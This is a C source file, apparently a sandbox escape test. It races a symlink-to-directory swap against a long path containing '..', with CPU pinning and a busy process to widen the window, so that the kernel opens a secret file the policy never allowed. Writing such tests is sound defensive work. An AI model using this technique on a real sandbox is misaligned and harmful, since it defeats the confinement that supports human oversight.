/* Escape attempt: an open left to the kernel (CONTINUE) for a process that shares nothing
 * with another task, through a symbolic link of the writable directory followed by "..".
 * T/ws/sub/l points to x/y, so ws/sub/l/../../../secret/secret.txt is decided as
 * ws/secret/secret.txt (a decoy the attack writes); a sibling process then turns l into a
 * directory with unlink and mkdir, which wait for no walk, and the kernel's own walk of
 * the same text climbs from ws/sub instead: T/secret/secret.txt, which no rule allows. The
 * opener re-execs itself (alone in its memory), is pinned to one CPU beside a busy process
 * and niced, so that its long walk (the path is padded with "./") is still under way when
 * the sibling's calls are made. Prints whatever it read that is not the decoy; exit 1 when
 * the secret came out. */
#include "attack.h"
#include <sched.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/wait.h>

static char P[4096] __attribute__((aligned(4096)));

static void pin(int cpu) {
  cpu_set_t cs;
  CPU_ZERO(&cs);
  CPU_SET(cpu, &cs);
  sched_setaffinity(0, sizeof cs, &cs);
}

static int opener(const char* path, int tries) {
  snprintf(P, sizeof P, "%s", path); /* one page of private memory */
  pin(1);
  setpriority(PRIO_PROCESS, 0, 19);
  int leaked = 0, decoys = 0;
  double end = now() + 8; /* the runner's victim lives 30 s */
  for (int i = 0; i < tries && now() < end; ++i) {
    char ch;
    if (read(4, &ch, 1) != 1) break;  /* the link is back */
    (void)!write(3, "g", 1);          /* go: the sibling makes it a directory */
    int fd = open(P, O_RDONLY);
    if (fd >= 0) {
      char buf[128] = {0};
      ssize_t n = read(fd, buf, sizeof buf - 1);
      close(fd);
      if (n > 0 && strncmp(buf, "decoy", 5) == 0) ++decoys;
      else if (n > 0) { printf("file_continue_dotdot: read %s", buf); ++leaked; }
    }
    (void)!write(3, "d", 1);  /* done: the sibling puts the link back */
  }
  printf("file_continue_dotdot: %d decoys, %d leaks\n", decoys, leaked);
  return leaked > 0;
}

int main(int argc, char** argv) {
  if (argc > 3 && strcmp(argv[2], "open") == 0) return opener(argv[3], atoi(env_or("CD_TRIES", "200")));
  fixture(argc, argv);
  char sub[2400], l[2500], d[2500];
  snprintf(sub, sizeof sub, "%s/sub", WS);
  snprintf(l, sizeof l, "%s/l", sub);
  mkdir(sub, 0755);
  snprintf(d, sizeof d, "%s/x", sub);
  mkdir(d, 0755);
  snprintf(d, sizeof d, "%s/x/y", sub);
  mkdir(d, 0755);
  snprintf(d, sizeof d, "%s/secret", WS);
  mkdir(d, 0755);
  snprintf(d, sizeof d, "%s/secret/secret.txt", WS);
  int fd = open(d, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0 || write(fd, "decoy\n", 6) != 6) { perror("decoy"); return 2; }
  close(fd);
  char* q = P + snprintf(P, sizeof P, "%s/", sub);
  while (q - P < 3200) q += sprintf(q, "./");
  snprintf(q, sizeof P - (size_t)(q - P), "l/../../../secret/secret.txt");
  int go[2], ready[2];
  if (pipe(go) != 0 || pipe(ready) != 0) return 2;
  pid_t sib = fork();
  if (sib == 0) {
    close(go[1]);
    close(ready[0]);
    pin(0);
    for (;;) {
      char ch;
      unlink(l);
      rmdir(l);
      if (symlink("x/y", l) != 0) _exit(0);
      if (write(ready[1], "r", 1) != 1 || read(go[0], &ch, 1) != 1) _exit(0);
      unlink(l);
      mkdir(l, 0755);
      if (read(go[0], &ch, 1) != 1) _exit(0);
    }
  }
  pid_t hog = fork();
  if (hog == 0) {
    pin(1);
    for (double end = now() + 60; now() < end;) {
    }
    _exit(0);
  }
  pid_t o = fork();
  if (o == 0) {
    dup2(go[1], 3);
    dup2(ready[0], 4);
    execl("/proc/self/exe", argv[0], argv[1], "open", P, (char*)NULL);
    _exit(2);
  }
  close(go[1]);
  close(ready[0]);
  int st = 0;
  waitpid(o, &st, 0);
  kill(sib, SIGKILL);
  kill(hog, SIGKILL);
  waitpid(sib, NULL, 0);
  waitpid(hog, NULL, 0);
  /* The secret itself, asked plainly: a denial for the log whichever way the races went
   * (the opener's check may always come before the sibling's calls). */
  int sfd = open(SECRET, O_RDONLY);
  if (sfd >= 0) { dump(sfd); close(sfd); return 1; }
  return WIFEXITED(st) ? WEXITSTATUS(st) : 2;
}
